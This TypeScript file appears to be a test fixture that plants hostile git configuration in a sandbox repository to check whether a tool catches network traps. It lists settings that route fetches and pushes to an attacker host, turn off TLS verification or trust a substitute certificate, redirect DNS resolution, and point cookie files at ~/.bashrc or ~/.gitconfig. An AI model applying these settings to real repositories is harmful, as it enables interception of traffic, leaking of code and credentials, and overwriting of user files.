import type { Bed } from './bed.rig.js';
import { TRUE_NAME } from './hosts.rig.js';
import type { Trap } from './trap.rig.js';

const FETCH = 'git fetch origin';
const PUSH = 'git push origin main:refs/heads/made';

interface Steering {
  readonly name: string;
  readonly typed?: string;
  readonly slot?: 'remote';
  plant(bed: Bed): void;
}

/** The person's remote is one with a name, over TLS. */
function overTls(bed: Bed): void {
  bed.remote = { name: 'origin', url: `https://${TRUE_NAME}/repo.git` };
}

function resolved(bed: Bed): void {
  overTls(bed);
  bed.config('http.curloptResolve', `${TRUE_NAME}:443:127.0.0.1`);
  bed.remote = { name: 'origin', url: `https://${TRUE_NAME}:${bed.hosts.attackerTlsPort}/repo.git` };
  bed.config('http.curloptResolve', `${TRUE_NAME}:${bed.hosts.attackerTlsPort}:127.0.0.1`);
}

const certificate = (bed: Bed) => `${bed.place}/../certificates/cert.pem`;

/** Settings that lead a call elsewhere, give something to it or take something from it. */
const STEERINGS: readonly Steering[] = [
  { name: 'proxy', plant: (bed) => bed.config('http.proxy', bed.hosts.attackerUrl) },
  { name: 'proxy-for-host', plant: (bed) => bed.config(`http.${bed.hosts.trueUrl}.proxy`, bed.hosts.attackerUrl) },
  { name: 'proxy-of-remote', plant: (bed) => bed.config('remote.origin.proxy', bed.hosts.attackerUrl) },
  {
    name: 'proxy-without-certificates',
    slot: 'remote',
    plant: (bed) => {
      overTls(bed);
      bed.config('http.proxy', bed.hosts.attackerUrl);
      bed.config('http.sslVerify', 'false');
    },
  },
  {
    name: 'proxy-with-own-authority',
    slot: 'remote',
    plant: (bed) => {
      overTls(bed);
      bed.config('http.proxy', bed.hosts.attackerUrl);
      bed.config('http.sslCAInfo', certificate(bed));
    },
  },
  {
    name: 'resolved-elsewhere',
    slot: 'remote',
    plant: (bed) => {
      resolved(bed);
      bed.config(`http.https://${TRUE_NAME}:${bed.hosts.attackerTlsPort}/.sslVerify`, 'false');
    },
  },
  {
    name: 'resolved-with-own-authority',
    slot: 'remote',
    plant: (bed) => {
      resolved(bed);
      bed.config('http.sslCAInfo', certificate(bed));
    },
  },
  {
    name: 'cookie-jar',
    plant: (bed) => {
      bed.config('http.cookieFile', '~/.bashrc');
      bed.config('http.saveCookies', 'true');
    },
  },
  {
    name: 'cookie-jar-for-host',
    plant: (bed) => {
      bed.config(`http.${bed.hosts.trueUrl}.cookieFile`, `${bed.home}/.gitconfig`);
      bed.config(`http.${bed.hosts.trueUrl}.saveCookies`, 'true');
    },
  },
  { name: 'cookies-of-the-person', plant: (bed) => bed.config('http.cookieFile', '~/.cookies') },
  { name: 'header', plant: (bed) => bed.config('http.extraHeader', 'X-Evil: 1') },
  { name: 'user-agent', plant: (bed) => bed.config('http.userAgent', 'evil') },
  { name: 'instead-of', plant: (bed) => bed.config(`url.${bed.hosts.attackerUrl}/.insteadOf`, 'http://127.0.0.1:') },
  {
    name: 'push-instead-of',
    typed: PUSH,
    plant: (bed) => bed.config(`url.${bed.hosts.attackerUrl}/.pushInsteadOf`, 'http://127.0.0.1:'),
  },
  {
    name: 'push-address',
    typed: PUSH,
    plant: (bed) => bed.config('remote.origin.pushurl', `${bed.hosts.attackerUrl}/x`),
  },
  {
    name: 'second-address',
    typed: PUSH,
    slot: 'remote',
    plant: (bed) => {
      bed.config('remote.origin.url', bed.hosts.trueUrl);
      bed.remote = { name: 'origin', url: `${bed.hosts.attackerUrl}/x` };
    },
  },
  {
    name: 'promised-objects',
    typed: PUSH,
    // Without `origin` the other remote would be the one that the page shows.
    slot: 'remote',
    plant: (bed) => {
      // A commit with a file that is nowhere. It comes first: git would look for the file once it knows where.
      bed.prepare('update-index', '--add', '--cacheinfo', `100644,${'1'.repeat(40)},missing.bin`);
      const tree = bed.prepare('write-tree', '--missing-ok');
      const commit = bed.prepare('commit-tree', '-p', 'HEAD', '-m', 'missing', tree);
      bed.prepare('update-ref', 'refs/heads/main', commit);
      bed.config('core.repositoryFormatVersion', '1');
      bed.config('extensions.partialClone', 'lazy');
      bed.config('remote.lazy.promisor', 'true');
      bed.config('remote.lazy.url', `${bed.hosts.attackerUrl}/lazy`);
    },
  },
  {
    name: 'fetch-in-submodules',
    plant: (bed) => {
      for (const key of ['fetch.recurseSubmodules', 'submodule.recurse', 'submodule.sub.fetchRecurseSubmodules']) {
        bed.config(key, 'true');
      }
      bed.config('remote.origin.url', `${bed.hosts.attackerUrl}/sub`, '.git/modules/sub/config');
    },
  },
  {
    name: 'push-in-submodules',
    typed: 'git -C sub commit -q --allow-empty -m x; git commit -q -m x sub; git push origin main:refs/heads/made',
    plant: (bed) => {
      bed.config('push.recurseSubmodules', 'on-demand');
      bed.config('remote.origin.url', `${bed.hosts.attackerUrl}/sub`, '.git/modules/sub/config');
      bed.put('.git/modules/sub/refs/remotes/origin/x', bed.read('.git/modules/sub/refs/heads/main'));
    },
  },
];

export const NETWORK_TRAPS: readonly Trap[] = STEERINGS.map(({ name, plant, typed = FETCH, slot }) => ({
  name: `network-${name}`,
  kind: 'network',
  mayBeLate: slot === undefined,
  ...(slot && { slot }),
  plant,
  typed,
}));
